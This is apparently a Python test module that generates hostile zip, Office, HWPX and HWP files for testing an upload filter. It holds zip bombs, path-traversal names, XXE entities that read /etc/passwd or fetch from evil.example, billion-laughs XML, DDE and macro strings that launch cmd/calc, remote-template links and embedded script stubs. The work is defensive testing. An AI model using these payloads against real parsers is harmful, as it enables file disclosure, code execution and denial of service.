"""Zips, office documents and compound files with what must not come in."""

from __future__ import annotations

import io
import random
import struct
import warnings
import zipfile
import zlib
from collections.abc import Iterator

from documents_made import archive, compound, docx, hwp, hwp_header, hwpx, workbook
from hostile import CANARY, NOUGHTS, RESIDENT, TAKEN, Hostile, refused, taken


def hostile_offices() -> Iterator[Hostile]:
    """All of this kind."""
    for family in (_archives, _offices, _compounds):
        yield from family()


# Zip.


def _zip(*entries: tuple[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Like `archive`, but with names twice, and other methods."""
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", method) as packed:
        warnings.simplefilter("ignore")  # the library warns of names twice, which is what is wanted
        for name, content in entries:
            with packed.open(zipfile.ZipInfo(name) if method == 0 else _info(name, method), "w") as part:
                part.write(content)
    return out.getvalue()


def _info(name: str, method: int) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.compress_type = method
    return info


def _parts(packed: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(packed)) as opened:
        return [(name, opened.read(name)) for name in opened.namelist()]


def _archives() -> Iterator[Hostile]:
    def one(what: str, content: bytes, *reasons: str) -> Hostile:
        return Hostile(f"zip: {what}", "a.docx", content, reasons)

    plain = docx("계획")
    yield one("a part that unpacks to 100 MB", docx("x", **{"word/media/a.bin": bytes(100 * 1024 * 1024)}), "bomb")
    yield one(
        "parts that unpack to 300 MB together",
        docx(
            "x",
            **{f"word/media/{n}.bin": random.Random(n).randbytes(1000) * 16 + bytes(950_000) for n in range(320)},  # noqa: S311 - the same files every time
        ),
        "bomb",
    )
    nested = archive(**{"a.bin": bytes(1024 * 1024)})
    for _ in range(8):
        nested = archive(**{f"{n}.zip": nested for n in range(4)})
    yield one("zips in zips in zips", nested, "unknown_format")
    yield one("zips in zips in a document", docx("x", **{"word/embeddings/a.zip": nested}), "embedded")
    yield one("3,001 parts", docx("x", **{f"word/{n}.txt": "" for n in range(3001)}), "bomb")
    names = (
        "../../../etc/cron.d/evil",
        "/etc/passwd",
        "C:\\Windows\\evil.exe",
        "..\\..\\evil.exe",
        "word/../../evil",
        "a" * 60_000,
        "con",
        "evil\u202egpj.exe",
    )
    for name in names:
        reason = "embedded" if name.endswith(".exe") else "damaged" if len(name) > 500 else TAKEN
        yield one(f"a part called {name[:30]!r}", docx("x", **{name: CANARY}), reason)
    twice = _parts(plain)
    yield one("types twice", _zip(*twice, twice[0]), "damaged")
    yield one("body twice", _zip(*twice, ("word/document.xml", RESIDENT.encode())), "damaged")
    yield one("body twice in other letters", _zip(*twice, ("WORD/Document.xml", RESIDENT.encode())), "damaged")
    for what, method in (("bzip2", zipfile.ZIP_BZIP2), ("lzma", zipfile.ZIP_LZMA)):
        yield one(f"packed by {what}", _zip(*twice, method=method), "damaged")
    yield one("nothing packed", _zip(*twice, method=zipfile.ZIP_STORED), TAKEN)
    link = zipfile.ZipInfo("word/link.xml")
    link.external_attr, link.create_system = 0o120777 << 16, 3
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        for name, content in twice:
            packed.writestr(name, content)
        packed.writestr(link, "/etc/passwd")
    yield one("a part that is a link", out.getvalue(), TAKEN, "damaged")
    central = plain.rfind(b"PK\x01\x02")
    yield one(
        "a method that nobody has",
        plain.replace(b"PK\x01\x02\x14\x03\x14\x00\x00\x00\x08\x00", b"PK\x01\x02\x14\x03\x14\x00\x00\x00\x63\x00"),
        "damaged",
    )
    yield one("locked parts", plain[: central + 8] + b"\x01\x00" + plain[central + 10 :], "locked")
    yield one("a size that lies", plain[: central + 24] + struct.pack("<I", 2**31) + plain[central + 28 :], "bomb")
    yield one(
        "an offset that lies", plain[: central + 42] + struct.pack("<I", 2**31) + plain[central + 46 :], "damaged"
    )
    yield one("a wrong sum", plain[: central + 16] + b"\0\0\0\1" + plain[central + 20 :], "damaged", TAKEN)
    yield one("no directory", plain[: plain.find(b"PK\x01\x02")], "damaged")
    yield one("a directory twice", plain + plain[plain.rfind(b"PK\x05\x06") :], "damaged", TAKEN)
    yield one("a count that lies", plain[:-12] + b"\xff\xff\xff\xff" + plain[-8:], "damaged")
    yield one("one body for a thousand names", _overlapping(1000), "damaged", "unknown_format", "bomb")
    yield one("only a directory", b"PK\x03\x04" + b"PK\x05\x06" + bytes(18), "damaged", "unknown_format")


def _overlapping(count: int) -> bytes:
    """All names of the directory share one packed body, as in the bomb that needs no nesting (Fifield, 2019)."""
    body = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = body.compress(bytes(100_000)) + body.flush()
    local = struct.pack(
        "<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, zlib.crc32(bytes(100_000)), len(packed), 100_000, 1, 0
    )
    out = local + b"a" + packed
    start = len(out)
    for number in range(count):
        name = b"[Content_Types].xml" if number == 0 else b"%d" % number
        out += (
            struct.pack(
                "<4s6H3I5H2I",
                b"PK\x01\x02",
                20,
                20,
                0,
                8,
                0,
                0,
                zlib.crc32(bytes(100_000)),
                len(packed),
                100_000,
                len(name),
                0,
                0,
                0,
                0,
                0,
                0,
            )
            + name
        )
    return out + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, len(out) - start, start, 0)


# DOCX, XLSX, HWPX.

_WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
_BODY = "word/document.xml"
_XMLNS = 'xmlns="http://schemas.openxmlformats.org/package/2006/content-types"'
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def _docx(text: str = "계획", *, types: list[str] | None = None, **more: str | bytes) -> bytes:
    overrides = "".join(
        f'<Override PartName="/p{n}.xml" ContentType="{one}"/>' for n, one in enumerate(types or [_WORD])
    )
    return docx(text, **{"[Content_Types].xml": f"<Types {_XMLNS}>{overrides}</Types>"} | more)


def _related(kind: str, target: str, mode: str = "External") -> dict[str, str | bytes]:
    one = f'<Relationship Id="r1" Type="{_KIND}{kind}" Target="{target}" TargetMode="{mode}"/>'
    return {"word/_rels/document.xml.rels": f'<Relationships xmlns="{_RELATIONS}">{one}</Relationships>'}


def _xlsx(*extra: tuple[str, bytes]) -> bytes:
    return _zip(*_parts(workbook("계획")), *extra)


_XXE = {
    "a file": "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "an address": "<!DOCTYPE a [<!ENTITY b SYSTEM 'http://evil.example/'>]><a>&b;</a>",
    "a parameter": "<!DOCTYPE a [<!ENTITY % b SYSTEM 'http://evil.example/x.dtd'> %b;]><a/>",
    "a description elsewhere": "<!DOCTYPE a SYSTEM 'http://evil.example/x.dtd'><a/>",
    "a billion laughs": "<!DOCTYPE a [<!ENTITY a0 'ha'>"
    + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
    + "]><a>&a9;</a>",
    "a quadratic joke": f"<!DOCTYPE a [<!ENTITY b '{'x' * 50_000}'>]><a>{'&b;' * 5_000}</a>",
}


def _offices() -> Iterator[Hostile]:
    for what, text in _XXE.items():
        yield refused(f"docx that asks for {what}", "a.docx", _docx(**{_BODY: text}), "bomb")
        sheet = [part for part in _parts(workbook("x")) if part[0] != "xl/worksheets/sheet1.xml"]
        yield refused(
            f"xlsx that asks for {what}", "a.xlsx", _zip(*sheet, ("xl/worksheets/sheet1.xml", text.encode())), "bomb"
        )
        packed = archive(**{"mimetype": "application/hwp+zip", "Contents/section0.xml": text})
        yield refused(f"hwpx that asks for {what}", "a.hwpx", packed, "bomb")
        yield refused(f"docx whose types ask for {what}", "a.docx", docx("x", **{"[Content_Types].xml": text}), "bomb")
    yield from _both()
    yield from _macros()
    yield from _remote()
    yield from _embedded()
    yield from _odd_xml()
    yield from _residents()


def _both() -> Iterator[Hostile]:
    yield refused("docx and xlsx", "p.docx", _docx(types=[_WORD, _SHEET]), "damaged")


def _macros() -> Iterator[Hostile]:
    def one(what: str, content: bytes, name: str = "a.docx") -> Hostile:
        return refused(what, name, content, "macro")

    enabled = _WORD.replace("openxmlformats-officedocument.wordprocessingml.document", "ms-word.document.macroEnabled")
    yield one("docx with a macro project", _docx(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}))
    yield one("docx with a macro project in capitals", _docx(**{"word/VBAPROJECT.BIN": b"\xd0\xcf\x11\xe0"}))
    yield one("docx that says it has macros", _docx(types=[enabled]))
    escaped = enabled.replace("E", "&#69;")
    yield one("docx that says so between the letters", _docx(types=[escaped]))
    yield one(
        "docx with a macro project under another name",
        _docx(types=[_WORD, "application/vnd.ms-office.vbaProject"], **{"word/a.bin": b"\xd0\xcf\x11\xe0"}),
    )
    project = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
    link = f'<Relationships xmlns="{_RELATIONS}"><Relationship Id="a" Type="{project}" Target="a.bin"/></Relationships>'
    yield one("docx tied to a macro project", _docx(**{"word/_rels/document.xml.RELS": link}))
    pieces = "<w:p><w:instrText>DD</w:instrText><w:t>x</w:t><w:instrText>EAUTO cmd</w:instrText></w:p>"
    yield one("docx with DDE in two pieces", _docx(**{_BODY: f"<w:document xmlns:w='w'>{pieces}</w:document>"}))
    simple = "<w:document xmlns:w='w'><w:p><w:fldSimple w:instr='DDE excel x'/></w:p></w:document>"
    yield one("docx with DDE in a plain field", _docx(**{_BODY: simple}))
    field = '<w:document xmlns:w="w"><w:p><w:instrText>{}</w:instrText></w:p></w:document>'
    for said in ('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"', " dde excel x"):
        yield one(f"docx with {said[:8]!r}", _docx(**{_BODY: field.format(said)}))
    yield one("docx with a control", _docx(types=[_WORD, "application/vnd.ms-office.activeX+xml"]))
    yield one("xlsx with a macro project", _xlsx(("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0")), "a.xlsx")
    sheet = b'<xm:macrosheet xmlns:xm="x"><f>EXEC("calc")</f></xm:macrosheet>'
    yield one("xlsx with a sheet of macros", _xlsx(("xl/macrosheets/sheet1.xml", sheet)), "a.xlsx")
    dde = b'<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    yield one("xlsx with a link to a programme", _xlsx(("xl/externalLinks/externalLink1.xml", dde)), "a.xlsx")


def _remote() -> Iterator[Hostile]:
    for kind in ("attachedTemplate", "oleObject", "frame", "subDocument", "image", "video"):
        content = _docx(**_related(kind, f"http://evil.example/{CANARY}"))
        yield refused(f"docx with a {kind} from elsewhere", "a.docx", content, "remote_template")
    content = _docx(**_related("attachedTemplate", "file://evil.example/x.dotm"))
    yield refused("docx with a template on a share", "a.docx", content, "remote_template")
    shy = _related("attachedTemplate", "http://evil.example/")
    shy = {name: str(text).replace("External", "&#69;xternal") for name, text in shy.items()}
    yield refused(
        "docx with a template from elsewhere, said between the letters", "a.docx", _docx(**shy), "remote_template"
    )
    web = _docx(types=[_WORD, "application/vnd.ms-office.webextension+xml"])
    yield refused("docx with an extension from the web", "a.docx", web, "remote_template")
    yield taken("docx with a plain link", "a.docx", _docx(**_related("hyperlink", "javascript:alert(1)")))


def _embedded() -> Iterator[Hostile]:
    def one(what: str, *reasons: str, **parts: str | bytes) -> Hostile:
        return Hostile(what, "a.docx", _docx(**parts), reasons)

    inner = _docx(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    yield one("docx with a document with macros inside", "macro", **{"word/embeddings/a.docm": inner})
    yield one("docx with a workbook inside", TAKEN, **{"word/embeddings/a.xlsx": workbook("x")})
    yield one("docx with a programme inside", "embedded", **{"word/embeddings/a.bin": b"MZ" + bytes(60)})
    yield one("docx with a script inside", "embedded", **{"word/embeddings/a.js": "alert(1)"})
    yield one("docx with a page inside", "embedded", **{"word/afchunk.html": "<script>alert(1)</script>"})
    yield one("docx with a web archive inside", "embedded", **_related("aFChunk", "/word/a.mht", "Internal"))
    yield one("docx with a drawing with script inside", "embedded", **{"word/media/a.svg": "<svg onload='alert(1)'/>"})


def _odd_xml() -> Iterator[Hostile]:
    deep = "<a>" * 200_000 + "</a>" * 200_000
    yield refused("docx nested 200,000 deep", "a.docx", _docx(**{_BODY: deep}), "bomb", "damaged", TAKEN)
    yield refused("docx with an attribute of 5 MB", "a.docx", _docx(**{_BODY: f"<a b='{'x ' * 2_500_000}'/>"}), "bomb")
    wide = "<w:document xmlns:w='w'>" + "<w:t>가나다라</w:t>" * 150_000 + "</w:document>"
    yield refused("docx of the same word", "a.docx", _docx(**{_BODY: wide}), "bomb")
    yield refused("docx whose body is no xml", "a.docx", _docx(**{_BODY: "\x00\x01<<<"}), "damaged")
    yield refused("docx without types", "a.docx", archive(**{_BODY: "<a/>"}), "unknown_format")
    yield refused("docx with types of nothing", "a.docx", _docx(types=["text/plain"]), "unknown_format")
    hidden = f"<Types {_XMLNS}><!-- {_WORD} --></Types>"
    yield refused("docx only in a remark", "a.docx", _docx(**{"[Content_Types].xml": hidden}), "unknown_format")
    utf16 = f'<?xml version="1.0" encoding="utf-16"?><a>{CANARY}</a>'.encode("utf-16")
    yield taken("docx in utf-16", "a.docx", _docx(**{_BODY: utf16}))
    yield refused(
        "docx in an alphabet that is none",
        "a.docx",
        _docx(**{_BODY: b'<?xml version="1.0" encoding="x-evil"?><a/>'}),
        "damaged",
    )
    include = "<a xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='file:///etc/passwd' parse='text'/></a>"
    yield taken("docx that includes a file", "a.docx", _docx(**{_BODY: include}))
    yield taken(
        "docx of a million pages, it says",
        "a.docx",
        _docx(**{"docProps/app.xml": "<Properties><Pages>12</Pages></Properties>"}),
    )
    yield taken("xlsx of formulas", "a.xlsx", workbook("=cmd|'/c calc'!A0", "@SUM(1)", "+1", "-1"))
    yield refused(
        "pptx",
        "a.pptx",
        _docx(types=[_WORD.replace("wordprocessingml.document", "presentationml.presentation")]),
        "unknown_format",
    )
    yield refused("odt", "a.odt", archive(mimetype="application/vnd.oasis.opendocument.text"), "unknown_format")
    yield refused("hwpx without a section", "a.hwpx", archive(mimetype="application/hwp+zip"), TAKEN, "damaged")
    script = archive(
        **{
            "mimetype": "application/hwp+zip",
            "Contents/section0.xml": "<a/>",
            "Scripts/headerScripts": "new ActiveXObject('WScript.Shell').Run('calc')",
        }
    )
    yield refused("hwpx with a script", "a.hwpx", script, "macro")
    yield refused(
        "hwpx with a programme inside",
        "a.hwpx",
        archive(
            **{"mimetype": "application/hwp+zip", "Contents/section0.xml": "<a/>", "BinData/a.exe": b"MZ" + bytes(60)}
        ),
        "embedded",
    )


def _residents() -> Iterator[Hostile]:
    split = "<w:document xmlns:w='w'><w:p><w:t>9001</w:t><w:t>01-123</w:t><w:t>4567</w:t></w:p></w:document>"
    note = f"<w:x xmlns:w='w'><w:t>{RESIDENT}</w:t></w:x>"
    for what, content in {
        "docx, cut in three": _docx(**{_BODY: split}),
        "docx's footnote": _docx(**{"word/footnotes.xml": note}),
        "docx's header": _docx(**{"word/header1.xml": note}),
        "docx's remark": _docx(**{"word/comments.xml": note}),
        "docx under another name": _docx(**{"evil/body.xml": note}),
        "docx in utf-16": _docx(
            **{_BODY: f'<?xml version="1.0" encoding="utf-16"?><t>{RESIDENT}</t>'.encode("utf-16")}
        ),
        "xlsx as a number": workbook(9001011234567),
        "xlsx as a formula": workbook('="900101-1234567"'),
        "hwpx": hwpx(RESIDENT),
        "hwp": hwp(RESIDENT),
    }.items():
        yield refused(f"resident number in a {what}", "a.docx", content, "resident_number")
    yield taken("xlsx with parts of a number in two cells", "a.xlsx", _side_by_side("900101", "1234567"))


def _side_by_side(*cells: str) -> bytes:
    out = io.BytesIO()
    row = "".join(f"<c><v>{cell}</v></c>" for cell in cells)
    parts = [part for part in _parts(workbook("x")) if part[0] != "xl/worksheets/sheet1.xml"]
    sheet = f'<worksheet xmlns="x"><sheetData><row>{row}</row></sheetData></worksheet>'
    out.write(_zip(*parts, ("xl/worksheets/sheet1.xml", sheet.encode())))
    return out.getvalue()


# HWP and other compound files.


def _compounds() -> Iterator[Hostile]:
    def one(what: str, content: bytes, *reasons: str) -> Hostile:
        return Hostile(f"compound: {what}", "a.hwp", content, reasons)

    good = hwp("계획")
    yield one("locked", hwp("계획", flags=3), "locked")
    yield one("word of 1997", good.replace(_wide("FileHeader"), _wide("WordDocume"), 1), "unknown_format", "old_office")
    yield one("header of another", good.replace(b"HWP Document File", b"HWP Document Evil"), "unknown_format")
    loops = {
        "sectors in a ring": (512, struct.pack("<I", 0)),
        "a first sector beyond the end": (512 + 512 + 128 + 116, struct.pack("<I", 0x7FFFFFFF)),
        "a stream of 4 GB": (512 + 512 + 128 + 120, struct.pack("<Q", 2**32 - 1)),
        "a directory in a ring": (512 + 512 + 76, struct.pack("<I", 0)),
        "a brother that is itself": (512 + 512 + 256 + 68, struct.pack("<I", 2)),
        "a table of sectors beyond the end": (76, struct.pack("<I", 0x7FFFFFFF)),
        "a million tables of sectors": (44, struct.pack("<I", 1_000_000)),
        "sectors of 2 GB": (30, struct.pack("<H", 31)),
        "sectors of one byte": (30, struct.pack("<H", 0)),
        "another order of bytes": (28, struct.pack("<H", 0xFEFF)),
        "small sectors in a ring": (60, struct.pack("<II", 1, 0xFFFF)),
        "tables of tables in a ring": (68, struct.pack("<II", 0, 0xFFFF)),
        "a name of a thousand letters": (512 + 512 + 64, struct.pack("<H", 2000)),
        "a kind that is none": (512 + 512 + 128 + 66, b"\x77"),
    }
    for what, (place, value) in loops.items():
        broken = good[:place] + value + good[place + len(value) :]
        yield one(what, broken, TAKEN, "damaged", "unknown_format")
    yield one("a section that unpacks to 300 MB", _hwp_section(NOUGHTS[2:-4]), "bomb")
    yield one("a section that is not packed", _hwp_section(b"\xff" * 600), "damaged")
    yield one("a record of 4 GB", _hwp_section(_packed(struct.pack("<II", 67 | 0xFFF << 20, 2**32 - 1))), TAKEN)
    yield one("a record cut short", _hwp_section(_packed(struct.pack("<I", 67 | 0xFFF << 20))), TAKEN, "damaged")
    yield one("half a letter", _hwp_section(_packed(struct.pack("<I", 67 | 3 << 20) + b"abc")), TAKEN)
    yield one("half a pair", _hwp_section(_packed(struct.pack("<IH", 67 | 2 << 20, 0xD800))), TAKEN)


def _wide(text: str) -> bytes:
    return text.encode("utf-16-le")


def _packed(plain: bytes) -> bytes:
    packer = zlib.compressobj(wbits=-15)
    return packer.compress(plain) + packer.flush()


def _hwp_section(body: bytes) -> bytes:
    return compound({"FileHeader": hwp_header(1), "BodyText/Section0": body})
